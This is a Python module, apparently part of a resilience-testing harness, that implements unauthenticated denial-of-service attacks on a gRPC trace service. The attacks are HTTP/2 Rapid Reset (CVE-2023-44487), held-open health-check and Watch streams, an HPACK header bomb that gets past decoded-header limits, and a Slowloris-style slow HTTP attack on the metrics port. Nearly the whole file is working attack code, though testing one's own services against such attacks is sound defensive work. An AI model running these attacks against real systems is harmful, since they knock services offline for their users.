"""Attacks without a token, on the two ports."""

from __future__ import annotations

import asyncio
import socket
from collections.abc import AsyncIterable
from contextlib import suppress

import grpc
from grpc_health.v1 import health_pb2, health_pb2_grpc

from neighbours.attacking import Attack, hold_streams
from neighbours.raw_http2 import EMPTY, LAST_KEPT, RawConnection, kept_header, request_headers

_READ = "/routetrace.v1.TraceService/GetTrace"
_CHECK = "/grpc.health.v1.Health/Check"
_PER_CHANNEL = 500
_LARGE = kept_header(b"x-large", b"x" * 4000)


def rapid_reset(
    attack: Attack, connections: int = 4, streams: int = 300_000, source: str = "127.0.0.1"
) -> None:
    """Open streams and reset each at once (CVE-2023-44487)."""
    _open_raw(attack, connections, streams, _READ, source, reset=True)


def unfinished_calls(attack: Attack, connections: int = 20, streams: int = 20_000) -> None:
    """Open health checks whose message never comes."""
    _open_raw(attack, connections, streams, _CHECK, "127.0.0.1", reset=False)


def _open_raw(
    attack: Attack, connections: int, streams: int, path: str, source: str, *, reset: bool
) -> None:
    headers = request_headers(path, authorization="Bearer unknown")
    attack.prepared()
    opened: list[RawConnection] = []

    def flood(_: int) -> None:
        if (connection := _connect(attack, source)) is None:
            return
        opened.append(connection)
        left = streams // connections
        while left > 0 and not attack.over and not connection.closed.is_set():
            message = EMPTY if reset else b""
            sent = connection.open(headers, min(left, 1000), reset=reset, message=message)
            attack.count("streams", sent)
            left -= sent

    attack.repeat(connections, connections, flood)
    if not reset:
        attack.pause()
    for connection in opened:
        _leave(attack, connection)


def hpack_bomb(
    attack: Attack, frames: int = 1050, named: int = 2000, source: str = "127.0.0.1"
) -> None:
    """Name a header of 4,000 bytes thousands of times in each call, in one byte each.

    gRPC keeps to its limit of decoded headers once its peer has acknowledged it: this one does not.
    """
    headers = request_headers(_READ)
    attack.prepared()
    if connection := _connect(attack, source, settled=False):
        attack.count("streams", connection.open(headers + _LARGE, 1))
        bomb = headers + LAST_KEPT * named
        attack.count("streams", connection.open(bomb, frames))
        attack.pause()
        _leave(attack, connection)


def _connect(attack: Attack, source: str, *, settled: bool = True) -> RawConnection | None:
    try:
        return RawConnection(attack.access.target, attack.access.ca_file, source, settled=settled)
    except OSError:
        attack.count("connections refused")
        return None


def _leave(attack: Attack, connection: RawConnection) -> None:
    attack.count("streams refused", connection.refused)
    attack.count("connections closed by the server", connection.closed.is_set())
    connection.close()


def watches(attack: Attack, count: int = 20_000) -> None:
    """Watch the health of services that do not exist."""
    attack.prepared()
    asyncio.run(_watch(attack, count))


async def _watch(attack: Attack, count: int) -> None:
    def watch(channel: grpc.aio.Channel, number: int) -> AsyncIterable[object]:
        request = health_pb2.HealthCheckRequest(service=f"no-service-{number}")
        return health_pb2_grpc.HealthStub(channel).Watch(request)

    await hold_streams(attack, watch, count, _PER_CHANNEL)


def half_http(attack: Attack, count: int = 900) -> None:
    """Begin HTTP requests at the metrics port, and go on with them a byte a second."""
    attack.prepared()
    opened: list[socket.socket] = []
    address = ("127.0.0.1", attack.access.metrics_port)
    for _ in range(count):
        if attack.over:
            break
        with suppress(OSError):
            connection = socket.create_connection(address, timeout=5)
            connection.sendall(b"GET /metrics HTTP/1.1\r\nX: ")
            opened.append(connection)
            attack.count("requests")
    while not attack.pause(1.0):
        for connection in opened:
            with suppress(OSError):
                connection.sendall(b"x")
    for connection in opened:
        connection.close()
